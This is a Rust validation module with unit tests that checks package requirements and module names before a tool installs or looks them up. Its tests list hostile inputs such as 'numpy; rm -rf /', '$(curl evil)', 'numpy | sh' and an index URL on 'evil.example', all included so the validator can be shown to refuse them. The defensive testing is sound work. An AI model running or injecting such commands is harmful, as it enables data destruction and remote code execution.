//! Package arguments: what `install_dependencies` accepts (plain PEP 508 requirements, nothing an
//! installer would read as an option, a URL or a path) and what `check_installed_packages` accepts
//! (distribution or import names). Pure validation; refusals name the entry and the reason.

use std::str::FromStr;

use pep508_rs::{Requirement, VersionOrUrl};

use crate::error::PackageError;

/// Most entries one call may name.
pub const MAX_PACKAGES: usize = 50;
/// Longest requirement accepted.
pub const MAX_REQUIREMENT_LEN: usize = 200;
/// Longest name accepted by `check_installed_packages`.
pub const MAX_NAME_LEN: usize = 100;

/// Characters a shell would interpret and no requirement needs.
const SHELL_METACHARACTERS: &[char] = &['`', '$', '|', '&', '\\', '{', '}', '#', '^', '%'];
const ARCHIVE_ENDINGS: &[&str] = &[".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar.xz", ".egg"];
const VCS_PREFIXES: &[&str] = &["git+", "hg+", "svn+", "bzr+", "file:"];

/// A requirement that passed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidRequirement {
    /// As the user wrote it (trimmed); this is what the installer receives.
    pub text: String,
    /// The normalized distribution name (`python-dateutil`).
    pub name: String,
    /// The same requirement as a conda spec, when conda can express it (no extras, no markers,
    /// only `==`, `!=`, `<`, `<=`, `>`, `>=`).
    pub conda_spec: Option<String>,
}

fn refuse(entry: &str, reason: impl Into<String>) -> PackageError {
    PackageError::Refused {
        entry: entry.chars().take(80).collect(),
        reason: reason.into(),
    }
}

/// Checks the list and every entry; the whole call is refused at the first bad entry.
pub fn validate_requirements(entries: &[String]) -> Result<Vec<ValidRequirement>, PackageError> {
    if entries.is_empty() {
        return Err(PackageError::Empty);
    }
    if entries.len() > MAX_PACKAGES {
        return Err(PackageError::TooMany {
            count: entries.len(),
            max: MAX_PACKAGES,
        });
    }
    entries.iter().map(|e| validate_requirement(e)).collect()
}

/// One requirement: a name with optional extras, version specifiers and markers.
pub fn validate_requirement(entry: &str) -> Result<ValidRequirement, PackageError> {
    let text = entry.trim();
    if text.is_empty() {
        return Err(refuse(entry, "empty entry"));
    }
    if entry.len() > MAX_REQUIREMENT_LEN {
        return Err(refuse(entry, format!("longer than {MAX_REQUIREMENT_LEN} characters")));
    }
    if entry.chars().any(char::is_control) {
        return Err(refuse(entry, "contains a newline or control character"));
    }
    if text.starts_with('-') {
        return Err(refuse(
            entry,
            "starts with '-': installer options are not accepted, only requirements such as 'pandas>=2'",
        ));
    }
    let lower = text.to_ascii_lowercase();
    if lower.contains("://") || VCS_PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return Err(refuse(
            entry,
            "URLs and VCS references are not accepted; name a package from the configured index",
        ));
    }
    if text.contains('@') {
        return Err(refuse(entry, "direct references ('name @ url') are not accepted"));
    }
    if text.contains('/') || text.starts_with('.') || text.starts_with('~') {
        return Err(refuse(entry, "local paths are not accepted; name a package"));
    }
    if let Some(c) = text.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
        return Err(refuse(entry, format!("contains the character {c:?}, which no requirement needs")));
    }
    if ARCHIVE_ENDINGS.iter().any(|end| lower.ends_with(end)) {
        return Err(refuse(entry, "archive file names are not accepted; name a package"));
    }
    let req = Requirement::<pep508_rs::VerbatimUrl>::from_str(text)
        .map_err(|e| refuse(entry, format!("not a valid requirement (PEP 508): {}", first_line(&e.to_string()))))?;
    let specifiers = match &req.version_or_url {
        Some(VersionOrUrl::Url(_)) => {
            return Err(refuse(entry, "direct references ('name @ url') are not accepted"));
        }
        Some(VersionOrUrl::VersionSpecifier(s)) => Some(s.to_string()),
        None => None,
    };
    let name = req.name.to_string();
    let conda_spec = conda_spec(&name, req.extras.is_empty(), req.marker.is_true(), specifiers.as_deref());
    Ok(ValidRequirement {
        text: text.to_string(),
        name,
        conda_spec,
    })
}

fn first_line(s: &str) -> &str {
    s.lines().next().unwrap_or(s)
}

fn conda_spec(name: &str, no_extras: bool, no_marker: bool, specifiers: Option<&str>) -> Option<String> {
    if !no_extras || !no_marker {
        return None;
    }
    match specifiers {
        None => Some(name.to_string()),
        Some(s) if s.contains("~=") || s.contains("===") => None,
        Some(s) => Some(format!("{name}{}", s.replace(' ', ""))),
    }
}

/// Names for `check_installed_packages`: distribution names (`python-dateutil`) or import names
/// (`dateutil`, `sklearn`, `yaml.loader`).
pub fn validate_lookup_names(entries: &[String]) -> Result<Vec<String>, PackageError> {
    if entries.is_empty() {
        return Err(PackageError::Empty);
    }
    if entries.len() > MAX_PACKAGES {
        return Err(PackageError::TooMany {
            count: entries.len(),
            max: MAX_PACKAGES,
        });
    }
    entries
        .iter()
        .map(|entry| {
            let name = entry.trim();
            let ok = !name.is_empty()
                && name.len() <= MAX_NAME_LEN
                && name.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
            if ok {
                Ok(name.to_string())
            } else {
                Err(refuse(
                    entry,
                    format!(
                        "not a package or module name (letters, digits, '.', '_', '-'; at most {MAX_NAME_LEN})"
                    ),
                ))
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ok(s: &str) -> ValidRequirement {
        validate_requirement(s).unwrap_or_else(|e| panic!("{s:?} refused: {e}"))
    }

    #[test]
    fn plain_requirements_pass() {
        assert_eq!(ok("numpy").name, "numpy");
        assert_eq!(ok("  pandas>=2.0  ").text, "pandas>=2.0");
        assert_eq!(ok("Python_Dateutil==2.9.0").name, "python-dateutil");
        assert_eq!(ok("requests[security,socks]>=2.8.1,==2.8.*").name, "requests");
        let with_marker = ok("tomli>=1.1; python_version < \"3.11\"");
        assert_eq!(with_marker.conda_spec, None);
        assert_eq!(ok("six").conda_spec.as_deref(), Some("six"));
        assert_eq!(ok("numpy>=1.26, <3").conda_spec.as_deref(), Some("numpy>=1.26,<3"));
        assert_eq!(ok("attrs~=23.1").conda_spec, None);
        assert_eq!(ok("rich[jupyter]").conda_spec, None);
        assert_eq!(ok("zope.interface!=5.0").name, "zope-interface");
        assert_eq!(ok("pkg ; sys_platform == 'linux'").name, "pkg");
    }

    #[test]
    fn hostile_requirements_are_refused() {
        let long = "a".repeat(MAX_REQUIREMENT_LEN + 1);
        let hostile = [
            ("", "empty"),
            ("   ", "empty"),
            ("-r requirements.txt", "options"),
            ("--index-url=http://evil.example/simple", "options"),
            ("-e .", "options"),
            ("--pre", "options"),
            ("http://evil.example/pkg.whl", "URL"),
            ("https://files.pythonhosted.org/x-1.0.tar.gz", "URL"),
            ("git+https://github.com/x/y.git", "URL"),
            ("git+ssh://git@github.com/x/y", "URL"),
            ("hg+http://x/y", "URL"),
            ("file:///etc/passwd", "URL"),
            ("pkg @ https://evil.example/pkg.whl", "URL"),
            ("pkg @ evil", "direct reference"),
            ("pkg@file:///tmp/x", "URL"),
            ("./local/pkg", "local path"),
            ("../pkg", "local path"),
            ("/tmp/pkg", "local path"),
            ("~/pkg", "local path"),
            ("pkg-1.0-py3-none-any.whl", "archive"),
            ("pkg.tar.gz", "archive"),
            ("numpy; rm -rf x", "PEP 508"),
            ("numpy; rm -rf /", "local path"),
            ("numpy && curl evil", "'&'"),
            ("numpy | sh", "'|'"),
            ("$(curl evil)", "'$'"),
            ("`id`", "'`'"),
            ("numpy\nrequests", "newline"),
            ("numpy\r", "control"),
            ("num\0py", "control"),
            ("numpy\t", "control"),
            ("numpy #comment", "'#'"),
            ("pkg>=1 \\", "'\\\\'"),
            ("pkg{a,b}", "'{'"),
            ("numpy===", "PEP 508"),
            ("numpy>>1", "PEP 508"),
            ("[extra]", "PEP 508"),
            ("requests[", "PEP 508"),
            (long.as_str(), "longer than"),
        ];
        for (entry, why) in hostile {
            let err = validate_requirement(entry).expect_err(entry).to_string();
            assert!(err.contains(why), "{entry:?}: {err} (expected {why:?})");
        }
    }

    #[test]
    fn list_limits() {
        assert!(matches!(validate_requirements(&[]), Err(PackageError::Empty)));
        let many: Vec<String> = (0..=MAX_PACKAGES).map(|i| format!("p{i}")).collect();
        assert!(matches!(validate_requirements(&many), Err(PackageError::TooMany { .. })));
        let mixed = vec!["numpy".to_string(), "-r x".to_string()];
        let err = validate_requirements(&mixed).unwrap_err().to_string();
        assert!(err.contains("-r x"), "{err}");
    }

    #[test]
    fn lookup_names() {
        let names: Vec<String> = ["numpy", "python-dateutil", "dateutil", "sklearn", "yaml.loader", "zope.interface"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(validate_lookup_names(&names).unwrap(), names);
        for bad in ["", "-x", "a b", "os;print(1)", "__import__('os')", "a/b", "x\ny", ".hidden", &"a".repeat(101)] {
            assert!(validate_lookup_names(&[bad.to_string()]).is_err(), "{bad:?} accepted");
        }
    }
}
